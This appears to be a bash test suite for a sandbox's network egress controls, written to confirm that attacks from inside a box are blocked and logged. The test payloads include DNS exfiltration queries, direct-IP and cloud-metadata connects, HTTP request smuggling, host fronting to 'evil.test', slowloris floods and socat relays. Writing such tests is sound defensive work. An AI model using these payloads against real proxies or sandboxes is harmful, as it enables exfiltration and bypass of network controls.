#!/bin/bash
# tests/escape/net-egress.sh — attacks on the egress path. Every test states the attack in its
# name and asserts both that it was blocked (fast) and that the upstream servers' own logs
# (tests/integration/net-upstreams.py, on host loopback) saw nothing they must not.
# "The host resolver never saw a denied name" is asserted by tracing the paddock process
# (the supervisor runs in it for run --rm) with strace: it must send nothing to any port 53
# and call connect() only for the upstreams the test allowed.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../integration/net-lib.sh"

PY="python3 -c"
allow_up() { echo "--allow up.test:$HTTP_PORT --allow tls.test:$HTTPS_PORT --resolve up.test=127.0.0.1 --resolve tls.test=127.0.0.1"; }
no_upstream_hits() { assert_eq "$(net_uplog http)$(net_uplog https)$(net_uplog echo)" "" "an upstream saw traffic"; }
fast() { # fast MAX_MS [run options] -- CMD...: CMD, in a box, finishes within MAX_MS (whatever its status; timed inside the box)
	local max=$1 ms rc; shift
	read -r ms rc < <(pd_run_ms "$@")
	[ "$ms" -lt "$max" ] || fail "took $ms ms (more than $max): $*"
}

# a DNS query for NAME/QTYPE sent from inside the box straight to the box's DNS server; prints the rcode
DNSQ='
import socket, struct, sys
name, qtype = sys.argv[1], int(sys.argv[2])
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for l in name.split("."):
    q += bytes([len(l)]) + l.encode()
q += b"\0" + struct.pack(">HH", qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(q, (sys.argv[3] if len(sys.argv) > 3 else "198.19.0.3", 53))
try:
    r = s.recv(600); print(r[3] & 15)
except OSError:
    print("timeout")
'

t_dns_exfiltration_denied_names_never_leave() {
	net_uplog_clear
	local out long
	long=$(printf 'a%.0s' $(seq 63))
	# (LeakSanitizer cannot run under ptrace: leak checks off for this one run.) As an
	# ordinary user the setuid newuidmap cannot run under ptrace: no trace then, only the
	# answers and the upstream logs are checked.
	local tracer=()
	[ "$(id -u)" = 0 ] && tracer=(strace -f -qq -e trace=connect,sendto,sendmsg -o "$PADDOCK_HOME/trace")
	: >"$PADDOCK_HOME/trace"
	out=$(ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 "${tracer[@]}" "$PADDOCK" run --rm -- sh -c "
		$PY '$DNSQ' secret.denied.test 1; $PY '$DNSQ' secret.denied.test 16;
		$PY '$DNSQ' $long.$long.exfil.test 1; $PY '$DNSQ' s3cr3t.denied.test 28")
	assert_eq "$(echo $out)" "3 3 3 3" "NXDOMAIN for A, TXT, long labels, AAAA"
	# strace -f also follows the box's processes, whose packets go to the box's own DNS
	# (198.19.0.3): anything else to a port 53, or any inet connect() of paddock, is a leak
	grep -v 'inet_addr("198.19.0.3")' "$PADDOCK_HOME/trace" >"$PADDOCK_HOME/trace.host" || true
	if grep -E 'sin_port=htons\(53\)|sin6_port=htons\(53\)' "$PADDOCK_HOME/trace.host"; then fail "a DNS packet left paddock"; fi
	if grep -E 'connect\(.*AF_INET' "$PADDOCK_HOME/trace.host"; then fail "paddock dialled something"; fi
	no_upstream_hits
}
# The explicit proxy (HTTPS_PROXY=198.19.0.2:3128): on ns its listener lives in the box's
# own network namespace, on vm behind the guest's network. Nothing in the box — agent or
# root — can bind its address, steal its connections with a wildcard listener, delete or
# add the address, or take loopback down; afterwards the same box still gets its allowed
# host through the proxy and a denied one is still refused there.
t_proxy_listener_cannot_be_taken_over() {
	net_uplog_clear
	local probe=/.probe/paddock-probe opts=(-v "$PD_PROBE:/.probe/paddock-probe:ro") u out users=agent
	if [ "$PD_BACKEND" = vm ]; then
		mkdir -p .probe && cp "$PD_PROBE" .probe/paddock-probe
		probe=/workspace/.probe/paddock-probe opts=()
	fi
	pd_root_available && users="agent root"
	for u in $users; do
		out=$(pd_run --user "$u" $(allow_up) "${opts[@]}" -- sh -c "$probe proxy-listener 198.19.0.2 3128; echo probe=\$?
			curl -sS -m 5 -o /dev/null -w '%{http_code}\n' http://up.test:$HTTP_PORT/after-$u
			curl -sS -m 5 -o /dev/null -w '%{http_code}\n' http://denied.test/after-$u" 2>&1) || true
		echo "$out"
		assert_contains "$out" "probe=0"
		assert_eq "$(echo "$out" | tail -n 2 | tr '\n' ' ')" "200 403 " "allowed then denied through the proxy as $u"
		assert_contains "$(net_uplog http)" "GET /after-$u host=up.test:$HTTP_PORT"
	done
	case "$(net_uplog http)" in *denied*) fail "a denied request reached the upstream" ;; esac
}
t_dns_txt_of_an_allowed_name_is_refused() {
	assert_eq "$(pd_run $(allow_up) -- $PY "$DNSQ" up.test 16)" "5"
}
t_udp53_to_an_outside_resolver_goes_nowhere() {
	assert_eq "$(pd_run -- $PY "$DNSQ" example.com 1 8.8.8.8)" "timeout"
	assert_eq "$(pd_run -- $PY "$DNSQ" example.com 1 198.19.0.1)" "timeout"
}
t_direct_ip_connects_in_every_notation_fail_fast() {
	net_uplog_clear
	local t
	for t in 127.0.0.1 2130706433 0x7f000001 0177.0.0.1 127.1 '[::1]' '[::ffff:127.0.0.1]' 10.0.2.2 \
		198.19.0.1 198.19.0.2 198.19.0.3 169.254.169.254 198.18.0.1 198.18.255.254; do
		local ms rc
		read -r ms rc < <(pd_run_ms $(allow_up) -- curl -sS -m 5 --noproxy '*' -g "http://$t:$HTTP_PORT/")
		[ "$rc" != 0 ] || fail "reached $t"
		[ "$ms" -lt 2000 ] || fail "refusing $t took $ms ms"
	done
	no_upstream_hits
}
t_host_loopback_and_gateway_ports_are_closed() {
	local out
	out=$(pd_run -- $PY '
import socket
res = []
for a, p in [("198.19.0.1", 22), ("198.19.0.1", 80), ("198.19.0.1", 3128), ("198.19.0.2", 80), ("198.19.0.3", 80), ("169.254.169.254", 80)]:
    s = socket.socket(); s.settimeout(2)
    try:
        s.connect((a, p)); res.append("open")
    except ConnectionRefusedError:
        res.append("refused")
    except OSError as e:
        res.append("err")
print(" ".join(res))')
	assert_eq "$out" "refused refused refused refused refused refused"
}
t_icmp_and_raw_and_packet_sockets_are_refused() {
	local out
	out=$(pd_run --user root -- $PY '
import socket
r = []
for fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0)]:
    try:
        socket.socket(fam, typ, proto); r.append("open")
    except OSError:
        r.append("refused")
print(" ".join(r))')
	assert_eq "$out" "refused refused refused"
}
t_allowed_name_that_really_resolves_to_loopback_is_not_dialled() {
	net_uplog_clear
	local rc=0
	# "localhost" is allowed by an explicit rule but resolves (on the host) to 127.0.0.1, and
	# no --resolve says so: the dialler refuses loopback
	fast 2000 --allow localhost:$HTTP_PORT -- curl -sS -m 5 --noproxy '*' http://localhost.:$HTTP_PORT/
	pd_run --allow localhost:$HTTP_PORT -- curl -sS -m 5 http://localhost:$HTTP_PORT/x >/dev/null 2>&1 || rc=$?
	assert_ne "$rc" 0
	no_upstream_hits
}
t_sni_mismatch_and_missing_sni_are_refused() {
	net_uplog_clear
	local out
	pd_file "$NET_DIR/ca.pem" /etc/pd-ca.pem
	out=$(pd_run $(allow_up) $PD_FILE_OPTS -- $PY "
import socket, ssl
res = []
for sni in ['other.test', None, 'tls.test']:
    ctx = ssl.create_default_context(cafile='$PD_FILE_PATH'); ctx.check_hostname = False
    s = socket.create_connection(('tls.test', $HTTPS_PORT), 5)
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b'GET /sni-%s HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n' % str(sni).encode())
        res.append('ok' if b'200' in t.recv(100) else 'bad')
    except (OSError, ssl.SSLError):
        res.append('refused')
print(' '.join(res))")
	assert_eq "$out" "refused refused ok"
	assert_not_contains "$(net_uplog https)" "other.test"
	assert_not_contains "$(net_uplog https)" "sni-None"
}
t_host_mismatch_on_keepalive_is_cut() {
	net_uplog_clear
	pd_run $(allow_up) -- $PY "
import socket
s = socket.create_connection(('up.test', $HTTP_PORT), 5)
s.sendall(b'GET /first HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\n')
s.recv(1000)
s.sendall(b'GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n')
s.settimeout(3)
try:
    print(s.recv(1000))
except OSError:
    pass
" >/dev/null
	assert_contains "$(net_uplog http)" "/first"
	assert_not_contains "$(net_uplog http)" "/second"
}
proxy_send() { # raw bytes (python literal) to the proxy; prints the first response line
	pd_run $(allow_up) -- $PY "
import socket
s = socket.create_connection(('198.19.0.2', 3128), 5)
s.sendall($1)
s.settimeout(3)
try:
    print(s.recv(4000).split(b'\r\n')[0].decode())
except OSError:
    print('closed')
"
}
t_connect_with_a_pipelined_second_request_is_refused() {
	net_uplog_clear
	local out
	out=$(proxy_send "b'CONNECT up.test:$HTTP_PORT HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: up.test\r\n\r\n'")
	assert_contains "$out" "403"
	no_upstream_hits
}
t_cl_te_smuggling_through_the_proxy_is_refused() {
	net_uplog_clear
	local out
	out=$(proxy_send "b'POST http://up.test:$HTTP_PORT/p HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: up.test\r\n\r\n'")
	assert_contains "$out" "403"
	out=$(proxy_send "b'POST http://up.test:$HTTP_PORT/p HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nabcd'")
	assert_contains "$out" "403"
	out=$(proxy_send "b'POST http://up.test:$HTTP_PORT/p HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n'")
	assert_contains "$out" "403"
	# a second request on the same proxy connection for another host: the connection is
	# refused as a whole (nothing of it is forwarded)
	out=$(proxy_send "b'GET http://up.test:$HTTP_PORT/ok HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\nGET http://denied.test/smuggled HTTP/1.1\r\nHost: denied.test\r\n\r\n'")
	assert_contains "$out" "403"
	assert_not_contains "$(net_uplog http)" "smuggled"
	assert_not_contains "$(net_uplog http)" "/p "
}
# Host fronting behind an Upgrade header: a server that ignores the upgrade reads the next
# request as HTTP, so it is checked as one (the engine used to relay all that followed raw),
# on the transparent path and through the proxy
t_upgrade_header_does_not_turn_off_the_host_check() {
	net_uplog_clear
	pd_run $(allow_up) -- $PY "
import socket
s = socket.create_connection(('up.test', $HTTP_PORT), 5)
s.sendall(b'GET /a HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\nGET /fronted HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
s.settimeout(3)
try:
    while s.recv(4000): pass
except OSError:
    pass
" >/dev/null
	local out
	out=$(proxy_send "b'GET http://up.test:$HTTP_PORT/b HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\nGET /fronted2 HTTP/1.1\r\nHost: evil.test\r\n\r\n'")
	assert_not_contains "$(net_uplog http)" "fronted"
	assert_not_contains "$(net_uplog http)" "evil.test"
}
# Host fronting behind leading empty lines on a port that is not 80/443: servers skip them
# (RFC 9112 2.2), so the bytes are taken for HTTP and checked — here refused, as the request
# parser takes no empty line first (they were relayed raw, unchecked)
t_leading_empty_lines_do_not_skip_the_host_check() {
	net_uplog_clear
	pd create $(allow_up) --workspace none ecrlf >/dev/null
	pd exec ecrlf -- $PY "
import socket
s = socket.create_connection(('up.test', $HTTP_PORT), 5)
s.sendall(b'\r\n\r\nGET /fronted HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
s.settimeout(3)
try:
    while s.recv(4000): pass
except OSError:
    pass
" >/dev/null
	sleep 0.3
	# the engine's own verdict (a server that does not skip empty lines, like this one, would
	# hide a bypass: the audit line says whether the request was checked)
	assert_contains "$(net_audit ecrlf | grep '"kind":"tcp"')" '"verdict":"deny"'
	pd rm -f ecrlf >/dev/null
	assert_not_contains "$(net_uplog http)" "fronted"
}
# A refused pipelined request on the proxy ends the connection at once (it stayed open for
# as long as the upstream did, with the allowed upstream dialled for nothing)
t_proxy_refusal_of_a_pipelined_request_closes_the_connection() {
	net_uplog_clear
	local out
	out=$(pd_run $(allow_up) -- $PY "
import socket, time
s = socket.create_connection(('198.19.0.2', 3128), 5)
s.sendall(b'GET http://up.test:$HTTP_PORT/a HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\nGET http://other.test:$HTTP_PORT/b HTTP/1.1\r\nHost: other.test:$HTTP_PORT\r\n\r\n')
s.settimeout(10)
t = time.time(); data = b''
try:
    while True:
        d = s.recv(4000)
        if not d: break
        data += d
except OSError:
    print('no EOF')
print(data.split(b'\r\n')[0].decode(), 'EOF after %.1f s' % (time.time() - t))
")
	assert_contains "$out" "403"
	assert_not_contains "$out" "no EOF"
	no_upstream_hits
}
# A flood of other names must not hand an address the box already resolved to another host
# (the fake-IP pool reused addresses at once: its TTL was 0, its answers say 60 s)
t_a_flood_of_names_does_not_hand_a_cached_address_to_another_host() {
	local out
	out=$(pd_run --allow "*.w.test:$HTTP_PORT" --resolve a.w.test=127.0.0.1 --resolve b.w.test=127.0.0.1 -- $PY "
import socket, struct
def q(name):
    m = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)
    for l in name.split('.'):
        m += bytes([len(l)]) + l.encode()
    m += b'\0' + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(m, ('198.19.0.3', 53))
    try:
        r = s.recv(600)
    except OSError:
        return None
    return socket.inet_ntoa(r[-4:]) if (r[3] & 15) == 0 and struct.unpack('>H', r[6:8])[0] else None
a = q('a.w.test')
for i in range(16400):
    q('f%d.w.test' % i)
b = q('b.w.test')
print('a', a, 'b', b, 'same' if a == b else 'differ')
")
	assert_contains "$out" "differ"
}
t_slowloris_1000_idle_connections_other_box_fine_rss_bounded() {
	pd create $(allow_up) loris >/dev/null
	local sup rss
	sup=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["supervisor_pid"])' "$PADDOCK_HOME/boxes/loris/state.json")
	pd exec loris -- $PY "
import socket, time, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
ss = []
for i in range(1000):
    s = socket.create_connection(('198.19.0.2', 3128), 5); s.sendall(b'GET http://up.test/ HTTP/1.1\r\n'); ss.append(s)
time.sleep(6)
" &
	local bg=$!
	sleep 4
	rss=$(awk '/VmRSS/ {print $2}' /proc/$sup/status)
	echo "supervisor RSS with 1000 idle connections: ${rss} kB" >&2
	assert_eq "$(pd_run $(allow_up) -- curl -sS -m 5 http://up.test:$HTTP_PORT/other)" "hello from http /other"
	wait $bg || true
	# ASan's allocator ignores the mmap threshold and keeps quarantine: the bound is for
	# release builds
	if grep -q __asan_init "$PADDOCK"; then return 0; fi
	[ "$rss" -lt 65536 ] || fail "supervisor RSS ${rss} kB >= 64 MiB"
	pd rm -f loris >/dev/null
}
t_relay_inside_the_box_reaches_nothing() {
	net_uplog_clear
	local rc=0
	pd_run -- sh -c "socat TCP-LISTEN:9000,fork,reuseaddr TCP:127.0.0.1:$HTTP_PORT & sleep 0.3; curl -sS -m 3 http://127.0.0.1:9000/relay" >/dev/null 2>&1 || rc=$?
	assert_ne "$rc" 0
	rc=0
	pd_run -- sh -c "socat TCP-LISTEN:9000,fork,reuseaddr TCP:198.19.0.1:$HTTP_PORT & sleep 0.3; curl -sS -m 3 --noproxy '*' http://127.0.0.1:9000/relay" >/dev/null 2>&1 || rc=$?
	assert_ne "$rc" 0
	no_upstream_hits
}

# a box that half-closes its request and then never reads, while the upstream sends its answer
# and closes: the connection waits for the box, and the supervisor does not spin meanwhile
# (poll reports POLLHUP even for a side it is not reading). 1 MiB: small enough for the upstream
# to finish and close, big enough to fill the engine's buffer (the spin used ~220 ticks in 3 s)
t_box_that_never_reads_an_answer_cannot_make_the_supervisor_spin() {
	pd_only ns "the supervisor is the run process itself"
	local out=$PADDOCK_HOME/spin.out pid t1 t2
	"$PADDOCK" run --rm --name spin$$ $(allow_up) -- python3 -c "
import socket, time
s = socket.create_connection(('up.test', $HTTP_PORT), 5)
s.sendall(b'GET /bytes/1048576 HTTP/1.0\r\nHost: up.test:$HTTP_PORT\r\n\r\n')
s.shutdown(socket.SHUT_WR)
print('sent', flush=True)
time.sleep(6)" </dev/null >"$out" 2>&1 &
	pid=$!
	for i in $(seq 100); do grep -q '^sent' "$out" && break; sleep 0.1; done
	sleep 1.5
	t1=$(awk '{print $14 + $15}' /proc/$pid/stat)
	sleep 3
	t2=$(awk '{print $14 + $15}' /proc/$pid/stat)
	wait $pid
	echo "supervisor CPU over 3 s while the box does not read: $((t2 - t1)) ticks" >&2
	[ $((t2 - t1)) -lt 60 ] || fail "the supervisor used $((t2 - t1)) clock ticks in 3 s (spinning)"
}

# Host fronting through a lenient server (Python's http.server, the upstream here, takes
# " GET / …" for a request): a request line after leading whitespace, or with a lowercase
# method, is taken for HTTP and judged by the strict parser — on a port that is not 80/443,
# after an Upgrade, and through the proxy (all were relayed raw, unchecked)
t_leading_space_or_lowercase_method_does_not_skip_the_host_check() {
	net_uplog_clear
	pd create $(allow_up) --workspace none esp >/dev/null
	pd exec esp -- $PY "
import socket, time
def send(*parts):
    s = socket.create_connection(('up.test', $HTTP_PORT), 5)
    for p in parts:
        s.sendall(p); time.sleep(0.3)
    s.settimeout(2)
    try:
        while s.recv(4000): pass
    except OSError:
        pass
send(b' GET /fronted1 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
send(b'\t get /fronted2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
send(b'GET /a HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
     b' GET /fronted3 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
# any token is a method to some server (Go's takes them all, nginx '_' and '-')
send(b'X_Y /fronted5 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
send(b'GET /b HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n',
     b'M-SEARCH /fronted6 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
# VT or FF between method and target: Python's http.server splits on them too
send(b'GET /c HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n',
     b'GET\x0b/fronted7\x0bHTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
" >/dev/null
	local out
	out=$(proxy_send "b'GET http://up.test:$HTTP_PORT/b HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n GET /fronted4 HTTP/1.1\r\nHost: evil.test\r\n\r\n'")
	sleep 0.3
	assert_not_contains "$(net_uplog http)" "fronted"
	assert_not_contains "$(net_uplog http)" "evil.test"
	assert_eq "$(net_audit esp | grep -c '"kind":"tcp".*"verdict":"deny"')" 6
	pd rm -f esp >/dev/null
}
# A first message begun and never finished is refused and logged (it held a connection and
# an upstream socket for as long as the box's side stayed open, with no audit line): on a
# port that is not 80/443, in a CONNECT tunnel, and a bare TLS record header
t_unfinished_first_messages_are_refused_and_logged() {
	net_uplog_clear
	pd create $(allow_up) --workspace none eunf >/dev/null
	pd exec eunf -- $PY "
import socket, time
for host, port, data in (('up.test', $HTTP_PORT, b'GET / HTTP/1.1\r\n'), ('tls.test', $HTTPS_PORT, b'\x16\x03\x01')):
    s = socket.create_connection((host, port), 5); s.sendall(data); time.sleep(0.3); s.close()
s = socket.create_connection(('198.19.0.2', 3128), 5)
s.sendall(b'CONNECT up.test:$HTTP_PORT HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\n'); s.recv(100)
s.sendall(b'GET / HTT'); time.sleep(0.3); s.close()
s = socket.create_connection(('198.19.0.2', 3128), 5)
s.sendall(b'CONNECT denied.test:443 HTTP/1.1\r\n'); time.sleep(0.3); s.close()
time.sleep(0.5)
" >/dev/null
	sleep 0.3
	local log
	log=$(net_audit eunf)
	assert_eq "$(echo "$log" | grep -c '"reason":"closed-mid-request"')" 4
	assert_not_contains "$log" '"verdict":"allow","reason":"","bytes_up":3'
	# and nothing is left open in the supervisor towards the upstreams
	assert_eq "$(ss -Htn state established "( dport = :$HTTP_PORT or dport = :$HTTPS_PORT )" | wc -l)" 0
	pd rm -f eunf >/dev/null
	no_upstream_hits
}

# A proxy request the parser refuses is logged with the target it named (it was logged with
# no name and the proxy's own port): what the box tried to reach is the point of the log
t_refused_proxy_requests_are_logged_with_their_target() {
	pd create $(allow_up) --workspace none eplog >/dev/null
	pd exec eplog -- $PY "
import socket
for req in (b'GET http://10.1.2.3:8080/ HTTP/1.1\r\nHost: 10.1.2.3:8080\r\n\r\n',
            b'GET http://up.test:$HTTP_PORT/ HTTP/1.1\r\nHost: evil.test\r\n\r\n',
            b'CONNECT [::1]:443 HTTP/1.1\r\nHost: x\r\n\r\n'):
    s = socket.create_connection(('198.19.0.2', 3128), 5); s.sendall(req); s.settimeout(3)
    try: s.recv(1000)
    except OSError: pass
" >/dev/null
	sleep 0.3
	local log
	log=$(net_audit eplog | grep '"kind":"proxy"')
	assert_contains "$log" '"name":"10.1.2.3","port":8080'
	assert_contains "$log" '"name":"up.test","port":'"$HTTP_PORT"
	assert_contains "$log" '"name":"[::1]","port":443'
	assert_not_contains "$log" '"name":""'
	pd rm -f eplog >/dev/null
}

net_make_ca
net_start_upstreams
trap net_stop EXIT
run_tests
